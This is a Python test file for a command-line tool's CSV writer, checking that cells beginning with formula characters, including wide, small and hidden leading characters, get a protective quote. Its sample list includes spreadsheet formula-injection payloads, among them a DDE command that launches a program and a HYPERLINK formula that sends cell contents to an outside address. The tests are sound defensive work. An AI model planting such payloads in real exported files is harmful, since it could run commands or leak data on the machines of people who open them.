"""The cells of a CSV file: a spreadsheet runs no cell as a formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from requests_iris.cli.cells import quoted
from requests_iris.cli.writers import comma_separated

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://example.org?"&A1,"ok")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "=",
    "-",
    "+45 12 34 56 78",
    "-2024-01-01",
    "-1,5",
    "--1",
    "+-1",
    "-0x10",
    "-1_000",
    "-Infinity",
    "-NaN",
    "-5%",
    "-5 m",
    "-1e",
    "-.",
]
NUMBERS = ["-5", "+3.5", "-1e5", "-.5", "+5.", "-1E-7", "-0", " -5", "+4512345678", "-1e999"]
WORDS = ["", "a", "a=1", "5-3", "2024-01-01", "info@example.org", "'=1", '"=1"', "#1", "_-1"]
LEADING = [" ", "   ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\x00", "\x0b", "\x1b", "\u202e"]


def rows_of(items: list[Any], **options: bool) -> list[list[str]]:
    file = io.BytesIO()
    comma_separated(iter(items), file, **options)
    return list(csv.reader(io.StringIO(file.getvalue().decode(), newline="")))


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_gets_a_quote_before_it(cell: str) -> None:
    assert quoted(cell) == "'" + cell


@pytest.mark.parametrize("cell", [*NUMBERS, *WORDS])
def test_numbers_and_other_text_stay_as_they_are(cell: str) -> None:
    assert quoted(cell) == cell


@pytest.mark.parametrize(
    "start", "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\N{MINUS SIGN}"
)
def test_a_formula_may_begin_with_a_wide_or_a_small_character(start: str) -> None:
    assert quoted(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("leading", LEADING)
def test_a_formula_may_begin_after_characters_that_a_spreadsheet_skips(leading: str) -> None:
    assert quoted(f"{leading}=1") == f"'{leading}=1"
    assert quoted(f"{leading}a=1") == f"{leading}a=1"


@pytest.mark.parametrize("start", ["\t", "\r", "\n", "\r\n"])
def test_a_cell_that_begins_with_a_tab_or_a_line_break_gets_a_quote(start: str) -> None:
    assert quoted(f"{start}a") == f"'{start}a"


@given(st.text())
def test_a_formula_changes_only_by_its_quote(cell: str) -> None:
    assert quoted(cell) in (cell, f"'{cell}")
    assert quoted(quoted(cell)) == quoted(cell)


@given(st.integers() | st.floats(allow_nan=False, allow_infinity=False))
def test_no_number_of_json_gets_a_quote(number: float) -> None:
    assert rows_of([{"n": number}])[1] == [repr(number)]


def test_names_of_columns_nested_text_and_bare_items_are_cells_too() -> None:
    item = {"=name": "ok", "+a": {"b": "=1"}, "list": ["=1"], "n": -5}
    header, cells, bare = rows_of([item, "@bare"])
    assert header == ["'=name", "'+a.b", "list", "n", "value"]
    assert cells == ["ok", "'=1", '["=1"]', "-5", ""]
    assert bare == ["", "", "", "", "'@bare"]


def test_option_raw_writes_text_as_the_server_sent_it() -> None:
    assert rows_of([{"=name": "=1", "n": "+45 1"}], raw=True) == [["=name", "n"], ["=1", "+45 1"]]


def test_objects_that_are_nested_deeply_are_json_in_one_cell() -> None:
    item: Any = {"end": 1}
    for _ in range(900):
        item = {"a": item}
    (name,), (cell,) = rows_of([item])
    assert name.split(".") == ["a"] * 20
    assert cell.startswith('{"a": {"a": ')


def test_integers_of_any_length_keep_all_digits() -> None:
    assert rows_of([{"n": 10**400}, {"n": -(10**4000)}])[1:] == [[str(10**400)], [str(-(10**4000))]]
